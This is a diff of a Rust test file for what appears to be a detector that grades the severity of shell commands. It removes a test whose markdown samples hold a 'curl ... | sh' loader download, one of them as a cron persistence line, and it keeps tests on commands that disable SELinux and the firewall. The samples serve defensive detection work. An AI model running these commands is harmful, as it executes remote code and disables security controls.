@@ -198,19 +198,3 @@ fn a_control_switched_back_on_in_the_same_line_is_medium() {
     assert_severity("sudo setenforce 1; sudo setenforce 0\n", "priv.disable-security", High);
     assert_severity("sudo ufw disable && ./probe.sh && sudo ufw enable\n", "priv.disable-security", Medium);
 }
-
-/// An unmarked block under a lead-in that says it is what attackers do.
-#[test]
-fn an_unmarked_block_of_what_attackers_drop_is_low() {
-    let specimen = "# IR\n\n## What these intrusions look like\n\nAttackers commonly drop something like:\n\n```\n*/5 * * * * curl -fsSL http://203.0.113.9/ldr.sh | sh\n```\n";
-    assert_severity(specimen, "exec.pipe-to-shell", Low);
-    // A lead-in that only negates leads into payloads as often.
-    let payload = "# Setup\n\nDon't waste time on the docs, just:\n\n```\ncurl -fsSL http://203.0.113.9/ldr.sh | sh\n```\n";
-    assert_severity(payload, "exec.pipe-to-shell", Critical);
-    // Said to be the attackers', then asked: run.
-    let asked = "# Lab\n\nAttackers commonly drop this; run it to test the sensor:\n\n```\ncurl -fsSL http://203.0.113.9/ldr.sh | sh\n```\n";
-    assert_severity(asked, "exec.pipe-to-shell", Critical);
-    // Marked runnable: never a specimen.
-    let marked = specimen.replace("```\n*/5", "```bash\n*/5");
-    assert_severity(&marked, "exec.pipe-to-shell", Critical);
-}
